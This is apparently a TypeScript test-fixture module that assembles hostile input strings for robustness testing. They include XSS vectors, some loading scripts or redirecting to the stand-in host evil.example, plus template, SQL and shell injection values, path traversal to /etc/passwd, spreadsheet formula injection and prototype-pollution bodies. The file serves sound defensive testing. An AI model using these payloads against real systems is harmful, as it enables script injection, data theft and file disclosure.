import { hostileNames, hostileTexts } from '../mocks/hostile-texts.ts';

// Every value that a test puts where something else is expected.

/** The texts between ' ¦ ' and line ends. */
const listOf = (text: string): readonly string[] =>
  text
    .split(/ ¦ |\n/)
    .map((each) => each.trim())
    .filter((each) => each !== '');

/** The trace of a script that ran. */
const ran = 'globalThis.__xss=1';
/** An origin to which nothing may be sent. */
const elsewhere = 'https://evil.example';

const events = listOf('onload ¦ onerror ¦ onfocus ¦ onmouseover ¦ ontoggle ¦ onanimationstart');
const tags = listOf(
  'img src=x ¦ svg ¦ body ¦ details open ¦ video src=x ¦ input autofocus ¦ iframe ¦ marquee',
);
const ends = listOf(
  '" ¦ \' ¦ ` ¦ --> ¦ ]]> ¦ </title> ¦ </textarea> ¦ </style> ¦ </script> ¦ </noscript>',
);
const vectors = [
  ...tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${ran}>`)),
  ...ends.flatMap((end) => [
    `${end}<script>${ran}</script>`,
    `${end} autofocus onfocus=${ran} x=${end}`,
  ]),
  ...listOf(`
    <script src=${elsewhere}/x.js></script> ¦ <scr<script>ipt>${ran}</scr</script>ipt>
    <SCRIPT>${ran}</SCRIPT > ¦ <svg><script>${ran}</script></svg>
    <svg><animate onbegin=${ran} attributeName=x dur=1s>
    <math><mtext></form><form><mglyph><style></math><img src onerror=${ran}>
    <template><script>${ran}</script></template> ¦ <iframe srcdoc="<script>parent.__xss=1</script>">
    <a href="javascript:${ran}">x</a> ¦ <form action="javascript:${ran}"><button>x</button></form>
    <meta http-equiv=refresh content="0;url=${elsewhere}"> ¦ <base href=${elsewhere}/>
    <link rel=stylesheet href=${elsewhere}/x.css>
    <object data="data:text/html,<script>${ran}</script>"> ¦ <embed src=${elsewhere}/x.swf>
    <style>@import '${elsewhere}/x.css';</style> ¦ &lt;script&gt;${ran}&lt;/script&gt;
    %3Cscript%3E${ran}%3C/script%3E ¦ ＜script＞${ran}＜/script＞
    <!--<img src="--><img src=x onerror=${ran}> ¦ <![CDATA[<script>${ran}</script>]]>
    \\u003cscript\\u003e${ran}\\u003c/script\\u003e`),
];

const markup = listOf(`
  b ¦ i ¦ h1 ¦ table ¦ div style="position:fixed;inset:0" ¦ plaintext ¦ xmp ¦ select ¦ title
  base target=_blank ¦ center ¦ font size=7 ¦ bdo dir=rtl ¦ br ¦ hr ¦ wbr ¦ nav ¦ dialog open
  p hidden`).flatMap((tag) => [`<${tag}>`, `before <${tag}>in</${tag.split(' ')[0]}> after 12`]);

const templates = listOf(`
  {{7*7}} ¦ \${7*7} ¦ #{7*7} ¦ <%= 7*7 %> ¦ {%raw%} ¦ {{=<% %>=}} ¦ @{7*7} ¦ [[7*7]] ¦ {7*7}
  {{constructor.constructor('${ran}')()}} ¦ \${${ran}} ¦ <%- ${ran} %> ¦ {{this.__proto__}} ¦ $&
  $1 ¦ $' ¦ $$`);

const schemes = [
  'javascript',
  'JaVaScRiPt',
  ' javascript',
  'java\tscript',
  'java\nscript',
  '\u0001javascript',
  'vbscript',
];
const urls = [
  ...listOf(`
    data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLl9feHNzPTE8L3NjcmlwdD4= ¦ //evil.example
    https:evil.example ¦ http://0x7f000001/ ¦ http://user:pass@evil.example/
    file:///etc/passwd ¦ blob:null/1 ¦ about:blank ¦ ftp://evil.example ¦ tel:911
    mailto:a@b.example?bcc=c@d.example ¦ # ¦ ?tab=log ¦ /states ¦ ../ ¦ ./
    https://evil.example/%00 ¦ data:text/html,<script>${ran}</script>
    data:image/svg+xml,<svg onload=${ran}> ¦ ${elsewhere} ¦ /\\evil.example ¦ \\\\evil.example`),
  ...schemes.flatMap((scheme) => [`${scheme}:${ran}`, `${scheme}://%0a${ran}`]),
];

const formats = listOf(`
  %s%s%s%n ¦ %d ¦ %x %p ¦ %1$s ¦ %% ¦ % ¦ 100% ¦ 50%25 ¦ {0} ¦ {} ¦ $HOME ¦ $(id) ¦ ; ls
  | cat ¦ && true ¦ ' OR 1=1 -- ¦ "; DROP TABLE x; -- ¦ 1' UNION SELECT 1 ¦ *)(uid=*
  <!ENTITY x SYSTEM "file:///x"> ¦ ../../etc/passwd ¦ /dev/null ¦ CON ¦ NUL.csv ¦ \`id\`
  a.csv.lnk ¦ a/b ¦ a%2Fb ¦ . ¦ .. ¦ ~ ¦ * ¦ ? ¦ %2e%2e%2f ¦ %E0%A4%A ¦ \\n\\t\\0 ¦ \\ ¦ \\\\
  \\u0000 ¦ \\x00 ¦ ..\\..\\win.ini ¦ C:\\con\\con`);

const css = listOf(`
  url(${elsewhere}/x.png) ¦ image-set("${elsewhere}/x.png" 1x) ¦ expression(${ran})
  ;} body{display:none} ¦ red;background:url(//evil.example) ¦ var(--canvas) ¦ @import "${elsewhere}"
  fixed inset-0 z-50 opacity-0 ¦ -moz-binding:url(${elsewhere}) ¦ behavior:url(x.htc)
  </style><style>*{display:none} ¦ #fff;} ¦ hidden ¦ sr-only ¦ content:"x" ¦ */ /*
  \\65 xpression(1) ¦ attr(data-x url) ¦ element(#root) ¦ 100000px ¦ calc(1px*1e9)`);

const formulas = ['=', '+', '-', '@', '\t=', '\r=', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}HYPERLINK("${elsewhere}")`,
  `${sign}1+1|cmd!A0`,
  `a,"${sign}b"`,
]);

const bidi = [
  ...'\u202A\u202B\u202D\u202E\u2066\u2067\u2068'
    .split('')
    .flatMap((mark) => [`${mark}12 calls`, `Ann ${mark}eeL 3/4`]),
  ...'\u200E\u200F\u061C\u202C\u2069'.split('').map((mark) => `Ann${mark} Lee 34`),
  '\u202E\u202E\u202E 12345 \u202D 678',
  'user\u202Egpj.exe',
  '\u2067\u2067\u2067open 12',
  '\u2069\u2069closed 12',
  '\u202C\u202C popped 12',
];

const writing = [
  ...listOf(`
    مرحبا 42 ¦ محمد بن علي ١٢٣ ¦ שלום 7/8 ¦ עברית (12) English ¦ فارسی ۱۲۳ ¦ עִבְרִית ¦ ܫܠܡܐ
    ދިވެހި 9 ¦ English العربية 12 English ¦ 王小明 ¦ 日本語テキスト ¦ 한국어 ¦ ไทยไม่มีช่องว่าง ¦ हिन्दी
    தமிழ் ¦ ქართული ¦ Ελληνικά ¦ Тест ¦ İstanbul ı ¦ ﬁ ﬂ ß ẞ ¦ 𝒜𝓃𝓃 𝕃𝕖𝕖 ¦ ％ｆｕｌｌ％ ¦ Ⅷ ½ ① ¦ 🙂
    👩‍👩‍👧‍👦 ¦ 🏳️‍🌈 ¦ 🇺🇸🇩🇪 ¦ 👍🏿 ¦ ❤️ ¦ 1️⃣ ¦ 🫠🫠🫠🫠 ¦ 🏴󠁧󠁢󠁥󠁮󠁧󠁿 ¦ ﷽ ¦ 𒐫 ¦ ꧅`),
  '\u{E0041}\u{E0042} tags',
];

const combining = Array.from({ length: 24 }, (_, at) => String.fromCharCode(0x300 + at * 4));
const zalgo = [5, 30, 120].map((height) =>
  Array.from(
    'Zalgo 12',
    (letter) => letter + combining.join('').repeat(height).slice(0, height),
  ).join(''),
);

const controls = [
  ...Array.from({ length: 32 }, (_, code) => `C0 ${String.fromCharCode(code)} ${code}`),
  ...[
    0x7f, 0x80, 0x85, 0x9b, 0x9f, 0xad, 0x200b, 0x2028, 0x2029, 0x2060, 0xfeff, 0xfffe, 0xffff,
    0xfdd0, 0x115f, 0x3164,
  ].map((code) => `control ${String.fromCharCode(code)} ${code}`),
  '\u0000',
  '\u0000\u0000',
  '\u200B',
  '\u3164',
  '\u00A0',
  '\u001b[31mred',
  '\u001b]0;title\u0007',
  '\b\b\b',
  '\r',
  '\n\n\n',
];

const surrogates = [
  '\uD83D',
  '\uDE00',
  '\uDE00\uD83D',
  'a\uD800',
  '\uDFFFz',
  'x\uD83D\uD83Dy',
  '\uDBFF 12',
  '\uD83D\uDE00\uD83D',
];

const long = [
  'W'.repeat(10_000),
  'i'.repeat(3_000),
  'many words '.repeat(900),
  '٣'.repeat(2_000),
  '🙂'.repeat(1_000),
  '\u202E'.repeat(1_000),
  '-'.repeat(5_000),
  'a/'.repeat(2_000),
  '\u00A0'.repeat(2_000),
  '<b>'.repeat(1_500),
  '王'.repeat(2_000),
  'x\n'.repeat(1_000),
  'Donaudampfschifffahrtsgesellschaftskapitän',
  '0'.repeat(500),
];

const json = listOf(`
  {} ¦ [] ¦ null ¦ true ¦ false ¦ 0 ¦ -0 ¦ -1 ¦ 1e999 ¦ NaN ¦ Infinity ¦ -Infinity ¦ \`
  undefined ¦ [object Object] ¦ NaN undefined null [object Object] ¦ {"a":1}
  {"__proto__":{"x":1}} ¦ ["a", ¦ "quoted" ¦ ' ¦ " ¦ {"$ref":"#"} ¦ {"@type":"x"}
  function(){} ¦ ()=>1 ¦ Symbol(x) ¦ Invalid Date ¦ 1970-01-01 ¦ 12/31/1969`);

const fields = [
  ...listOf('prototype ¦ then ¦ toJSON ¦ default ¦ key ¦ ref ¦ children ¦ $$typeof'),
  'dangerouslySetInnerHTML',
  ...Object.getOwnPropertyNames(Object.prototype),
  ...Object.getOwnPropertyNames(Array.prototype),
];

/** Texts that people, programs and attackers write in place of a name, each once. */
export const hostileStrings: readonly string[] = [
  ...new Set([
    ...hostileTexts,
    ...hostileNames,
    ...vectors,
    ...markup,
    ...templates,
    ...urls,
    ...formats,
    ...css,
    ...formulas,
    ...bidi,
    ...writing,
    ...zalgo,
    ...controls,
    ...surrogates,
    ...long,
    ...json,
    ...fields,
  ]),
];

/** Names with a meaning in JavaScript, and other odd ones. */
export const hostileKeys: readonly string[] = [
  ...listOf(`
    __proto__ ¦ constructor ¦ prototype ¦ toString ¦ valueOf ¦ toJSON ¦ hasOwnProperty
    then ¦ length ¦ 0 ¦ -1 ¦ rows ¦ unreadable ¦ name ¦ total ¦ count`),
  '',
  ' ',
  '\u202Eeman',
  '\uD83D',
];

/** Extreme numbers: JSON.parse reads `1e999` as Infinity. */
export const hostileNumbers: readonly number[] = listOf(`
  0 ¦ -0 ¦ 1 ¦ -1 ¦ 0.1 ¦ 100 ¦ 101 ¦ 1e21 ¦ -1e21 ¦ 5e-324 ¦ 1.7976931348623157e308
  9007199254740992 ¦ -9007199254740994 ¦ 4294967296 ¦ 20261121 ¦ 1e-7 ¦ 1e999 ¦ -1e999`).map(
  Number,
);

/** Dates that are none, or that no other system reads as ours does. */
export const hostileDates: readonly (string | number | null)[] = [
  'soon',
  null,
  1_764_000_000,
  '2026-02-30',
  '2026-03-08 02:30:00',
  '0000-00-00',
  '',
];

/** Tokens of styles, links and kinds that are none. */
export const hostileTokens: readonly string[] = listOf(
  'fixed inset-0 z-50 ¦ url(//evil.example) ¦ javascript:alert(1) ¦ __proto__',
);

/** Numbers, dates, words, regions, people, phones and flags in the spellings of other systems. */
export const oddSpellings: readonly string[] = [
  ...listOf(`
    12 ¦ -3 ¦ 1e9 ¦ 1e999 ¦ 0x10 ¦ ١٢ ¦ 1,000 ¦ 12% ¦ +1 ¦ .5 ¦ Infinity ¦ -0
    2026-11-21 ¦ 2026-11-21T14:41:00 ¦ 2026-11-01T01:30:00-04:00 ¦ 1970-01-01T00:00:00Z
    99999-01-01 ¦ 2:41 PM ¦ 25:61 ¦ 2026-13 ¦ 2026-3 ¦ March 2026 ¦ 2026-11-21 14:41
    20261121T194100Z ¦ 2026-11-21T14:41:00 -05 ¦ 2026-03-09T00:00:00.000Z
    2026-11-21T14:41:00-05:00[America/New_York] ¦ 2026-11-21T14:41[Mars/Base] ¦ 1790000000
    1790000000123 ¦ 2026-11-21T24:00:00Z ¦ 2026-03-08T02:30:00 ¦ 03/04/2026
    valid ¦ BLOCKED ¦ Pending ¦ escalated ¦ n/a ¦ yes ¦ N ¦ 1 ¦ Illinois ¦ chicago ¦ IL ¦ f l ¦ Atlantis
    ana torres ¦ Ana_Torres ¦ Ana\u00a0Torres ¦ 0 PDG ¦ unknown field agent ¦ (312) 555-0142 x9
    +47 22 12 34 56 ¦ 555-0142 / 555-0143 ¦ O&#39;Brien ¦ <p>Missing</p> ¦ <b onclick=x>y</b> ¦ ＩＬ`),
  ' 7 ',
  '9'.repeat(400),
];

/** Bodies of another shape, as texts. */
export const hostileBodies: readonly string[] = listOf(`
  {"__proto__":{"polluted":1}} ¦ {"constructor":{"prototype":{"polluted":1}}}
  {"toString":1,"valueOf":2,"toJSON":3,"then":4} ¦ {"length":3,"0":"a","1":"b","2":"c"}
  [[[[[[]]]]]] ¦ [null,[],{},"",0,false] ¦ {"a":{"b":{"c":{"__proto__":{"title":"x"}}}}}
  {"":""} ¦ {"1":{"title":"x","id":"1"},"3":{"title":"y","id":"3"}} ¦ ["a text"] ¦ [["nested"]]
  {"total":76,"appointments":[{"title":"x"}],"alerts":[{"id":"1"}]} ¦ ["Illinois","Florida"]`);

/** What another program may have left under a key of this browser's storage. */
export const storedRubbish: readonly string[] = [
  '',
  'null',
  '{}',
  '[[]]',
  '"text"',
  '-1e999',
  '//elsewhere',
  '{"designatedTelemarketers":{"length":4},"signInUrl":7,"at":1e300}',
  '\\ud800<script>\u0000'.repeat(2_000),
];
